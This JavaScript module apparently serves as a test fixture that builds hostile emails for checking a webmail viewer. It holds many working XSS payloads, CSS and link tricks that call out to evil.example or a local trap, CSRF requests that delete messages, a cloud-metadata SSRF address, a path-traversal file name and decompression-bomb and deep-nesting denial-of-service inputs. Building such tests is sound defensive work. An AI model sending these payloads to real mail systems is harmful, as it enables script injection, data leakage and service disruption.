// Mails that mean harm: each tries to run something, to get out, to break the
// page or to exhaust it. Gathered from what has broken webmail before.
module.exports = ({ trap, page, pixel }) => {
  const out = (what) => `http://127.0.0.1:${trap}/${what}`
  const far = (what) => `http://evil.example/${what}`
  const mail = (subject, html, more = '') => `From: "Mallory" <m@evil.example>\nTo: b@example.com\nSubject: ${subject}\nMIME-Version: 1.0\n${more}Content-Type: text/html; charset=utf-8\n\n${html}\n`
  const nested = (n) => {
    let inner = 'Content-Type: text/plain\n\nat last\n'
    for (let i = n; i > 0; i--) inner = `Content-Type: multipart/mixed; boundary=b${i}\n\n--b${i}\n${inner}\n--b${i}--\n`
    return inner
  }
  const head = 'From: m@evil.example\nTo: b@example.com\nMIME-Version: 1.0\n'
  return {
    scripts: mail('scripts', `<script>alert(1);top.location='${far('s1')}'</script><script src="${out('s2')}"></script><img src=x onerror="fetch('${out('s3')}')"><svg onload="alert(2)"><script>alert(3)</script></svg><body onload=alert(4)><a href="javascript:alert(5)" autofocus onfocus=alert(6)>x</a><details open ontoggle=alert(7)><video><source onerror=alert(8)></video><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(9)&gt;">`),
    'scripts in odd dress': mail('odd scripts', `<scr\fipt>alert(1)</scr\fipt><SCRIPT/XSS SRC="${out('o1')}"></SCRIPT><<script>alert(2);//<</script><script\n>alert(3)</script\n><noscript><p title="</noscript><img src=x onerror=alert(4)>"></noscript><template><script>alert(5)</script></template><xmp><script>alert(6)</script></xmp><plaintext><script>alert(7)</script>`),
    frames: mail('frames', `<iframe src="${out('f1')}"></iframe><iframe srcdoc="<script>alert(1)</script><img src='${out('f2')}'>"></iframe><object data="${out('f3')}"></object><embed src="${out('f4')}"><frameset><frame src="${out('f5')}"></frameset><portal src="${out('f6')}"></portal><iframe src="${page}/"></iframe><iframe src="javascript:alert(2)"></iframe>`),
    'meta refresh': mail('refresh', `<meta http-equiv=refresh content="0;url=${out('m1')}"><meta http-equiv="REFRESH" content="0; url='${far('m2')}'"><base href="${far('m3')}/" target="_top"><meta http-equiv="Content-Security-Policy" content="default-src *"><a href=x>x</a><meta http-equiv=set-cookie content="a=b">`, `Refresh: 0; url=${out('m4')}\nLink: <${out('m5')}>; rel=preload\n`),
    styles: mail('styles', `<style>@import "${out('c1')}";@import url(${far('c2')});body{background:url(${out('c3')})}@font-face{font-family:x;src:url(${out('c4')})}*{font-family:x;cursor:url(${out('c5')}),auto;list-style:url(${far('c6')});content:url(${out('c7')})}</style><link rel=stylesheet href="${out('c8')}"><p style="background:\\75\\72\\6c(${out('c9')})">x</p><p style="background-image:\\0075rl('${out('c10')}')">y</p><style>p{background:u\\72 l("${far('c11')}");behavior:url(${out('c12')});-moz-binding:url(${out('c13')})}</style><style></style ><img src=x onerror=alert(1)><style>/*</style><script>alert(2)</script>*/</style><style>:root{position:fixed;inset:0;z-index:99999;width:99999px}</style>`),
    'styles that read': mail('read', `<style>input[value^="a"]{background:url(${out('r1')})} @media (min-width:1px){body{background:image-set(url(${far('r2')}) 1x)}} a:visited{background:url(${out('r3')})}</style><input value="abc"><a href="https://example.com">x</a>`),
    pictures: mail('pictures', `<img src="${out('p1')}"><img src="//127.0.0.1:${trap}/p2"><img srcset="${out('p3')} 1x, ${far('p4')} 2x"><picture><source srcset="${far('p5')}"><img></picture><img src="${far('p6')}" loading=eager><input type=image src="${out('p7')}"><table background="${out('p8')}"><tr><td background="${far('p9')}"></table><video poster="${out('p10')}" src="${out('p11')}" autoplay></video><audio src="${out('p12')}" autoplay></audio><svg><image href="${out('p13')}"/><use href="${out('p14')}#x"/><filter id=f><feImage href="${out('p15')}"/></filter></svg><body background="${far('p16')}"><img src="http://169.254.169.254/latest/meta-data/"><img src="${page}/clear">`),
    'ways out': mail('ways out', `<link rel=dns-prefetch href="//evil.example"><link rel=preconnect href="${out('w1')}"><link rel=prefetch href="${out('w2')}"><link rel=prerender href="${far('w3')}"><link rel=preload as=image href="${out('w4')}"><link rel=modulepreload href="${out('w5')}"><link rel=icon href="${out('w6')}"><link rel=manifest href="${far('w7')}"><script type=speculationrules>{"prefetch":[{"source":"list","urls":["${far('w8')}"]}]}</script><a ping="${out('w9')}" href="#" download>x</a><form action="${out('w10')}"><input autofocus><button>ok</button></form><form id=f action="javascript:alert(1)"></form><isindex action="${far('w11')}">`, `Link: <${far('w12')}>; rel=preconnect\n`),
    'changes by GET or POST': mail('post', `<form method=post action="${page}/clear"><button autofocus>Delete all</button></form><img src="${page}/api/dev/messages?delete=all"><iframe src="${page}/clear"></iframe><script>fetch('${page}/api/dev/messages',{method:'DELETE'})</script>`),
    'escape by subject': mail('</title><script>alert(1)</script><img src=x onerror=alert(2)>', 'x', `X-Odd: "><script>alert(3)</script>\nReply-To: "</dd><script>alert(4)</script>" <"><img src=x onerror=alert(5)>"@evil.example>\nList-Unsubscribe: <javascript:alert(6)>, <${out('u1')}>\n`),
    'escape by file name': head + `Subject: file names\nContent-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/html; name="\\"><script>alert(1)</script>.html"\nContent-Disposition: attachment; filename="../../../etc/passwd\\"><img src=x onerror=alert(2)>"\n\n<script>alert(3)</script>\n--b\nContent-Type: image/svg+xml\nContent-Disposition: inline; filename="x.svg"\n\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(4)"><image href="${out('n1')}"/><script>alert(5)</script></svg>\n--b\nContent-Type: text/html\n\n<img src="cid:x"><script>alert(6)</script>\n--b--\n`,
    'inline SVG by cid': head + `Subject: cid\nContent-Type: multipart/related; boundary=b\n\n--b\nContent-Type: text/html\n\n<img src="cid:a"><iframe src="cid:a"></iframe><object data="cid:a"></object>\n--b\nContent-Type: image/svg+xml\nContent-ID: <a>\n\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><image href="${out('v1')}"/></svg>\n--b--\n`,
    'text that is no text': head + `Subject: text\nContent-Type: text/plain; charset=utf-8\n\n</pre><script>alert(1)</script> javascript:alert(2) https://evil.example/\u202Egpj.exe \u0007\u001b[31m \uFEFF\u200B` + 'ā̶̢̛'.repeat(2000),
    'calendar': head + `Subject: meet\nContent-Type: text/calendar; method=REQUEST\n\nBEGIN:VCALENDAR\nBEGIN:VEVENT\nUID:1\nSUMMARY:<script>alert(1)</script><img src=x onerror=alert(2)>\nURL:javascript:alert(3)\nDTSTART:99999999T999999Z\nRRULE:FREQ=SECONDLY;COUNT=999999999\nATTACH:${out('k1')}\nEND:VEVENT\nEND:VCALENDAR\n`,
    'a line of ten million octets': mail('long line', 'a'.repeat(10 << 20)),
    'a line of ten million octets, encoded': mail('long line encoded', Buffer.from('a'.repeat(10 << 20)).toString('base64').replace(/.{76}/g, '$&\n'), 'Content-Transfer-Encoding: base64\n'),
    'a subject of many long words': `From: m@evil.example\nTo: b@example.com\nSubject: ${'W'.repeat(900)}${('\n ' + 'W'.repeat(900)).repeat(50)}\n\nx\n`,
    'deep parts': head + 'Subject: deep parts\n' + nested(2000),
    'many parts': head + 'Subject: many parts\nContent-Type: multipart/mixed; boundary=b\n\n' + '--b\nContent-Type: text/html\nContent-Disposition: attachment; filename=a.html\n\n<b>x\n'.repeat(20000) + '--b--\n',
    'deep elements': mail('deep elements', '<div>\n'.repeat(100000) + 'x'),
    'deep tables': mail('deep tables', '<table><tr><td>\n'.repeat(3000) + 'x'),
    'many attributes': mail('attributes', '<p ' + Array.from({ length: 50000 }, (_, i) => `a${i}=1`).join('\n') + '>x'),
    'a wide page': mail('wide', '<div style="width:9999999px;height:9999999px;position:fixed;z-index:2147483647;background:red">x</div>'),
    'a picture of too many points': head + `Subject: picture bomb\nContent-Type: image/png; name=bomb.png\nContent-Transfer-Encoding: base64\n\n${bigPicture().toString('base64').replace(/.{76}/g, '$&\n')}\n`,
    'odd charsets': head + `Subject: =?x-unknown?B?////?= =?utf-7?Q?+ADw-script+AD4-alert(1)+ADw-/script+AD4-?= =?utf-8?B?${'A'.repeat(5000)}?=\nContent-Type: text/html; charset=utf-7\n\n+ADw-script+AD4-alert(1)+ADw-/script+AD4- +ADw-img src=${out('h1')} onerror=alert(2)+AD4-\n`,
    'UTF-16 said to be HTML': Buffer.concat([Buffer.from(head + 'Subject: utf-16\nContent-Type: text/html; charset=utf-16\nContent-Transfer-Encoding: base64\n\n'), Buffer.from(Buffer.from(`<script>alert(1)</script><img src="${out('h2')}">`, 'utf16le').toString('base64') + '\n')]),
    'ISO-2022 shifts': Buffer.concat([Buffer.from(head + 'Subject: shifts\nContent-Type: text/html; charset=iso-2022-jp\n\n'), Buffer.from('\x1b$B<script>alert(1)</script>\x1b(B<img src="x\x1b$B" onerror="alert(2)\x1b(B">\n', 'latin1')]),
    'no header at all': 'x'.repeat(200) + '\n\n\n',
    'broken encodings': head + 'Subject: broken\nContent-Type: multipart/alternative; boundary="x\n\n--x\nContent-Transfer-Encoding: base64\nContent-Type: text/html\n\n====PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==!!!!\n',
    'a tame picture': head + `Subject: tame\nContent-Type: image/png\nContent-Transfer-Encoding: base64\n\n${pixel}\n`
  }
}

// bigPicture is a PNG that says it is 60,000 points wide and high.
function bigPicture () {
  const zlib = require('node:zlib')
  const chunk = (type, data) => {
    const body = Buffer.concat([Buffer.from(type), data]), all = Buffer.alloc(body.length + 8)
    all.writeUInt32BE(data.length); body.copy(all, 4); all.writeUInt32BE(zlib.crc32 ? zlib.crc32(body) : 0, all.length - 4)
    return all
  }
  const size = Buffer.from([0, 0, 0xea, 0x60, 0, 0, 0xea, 0x60, 1, 0, 0, 0, 0])
  return Buffer.concat([Buffer.from([137, 80, 78, 71, 13, 10, 26, 10]), chunk('IHDR', size), chunk('IDAT', zlib.deflateSync(Buffer.alloc(5 << 20))), chunk('IEND', Buffer.alloc(0))])
}
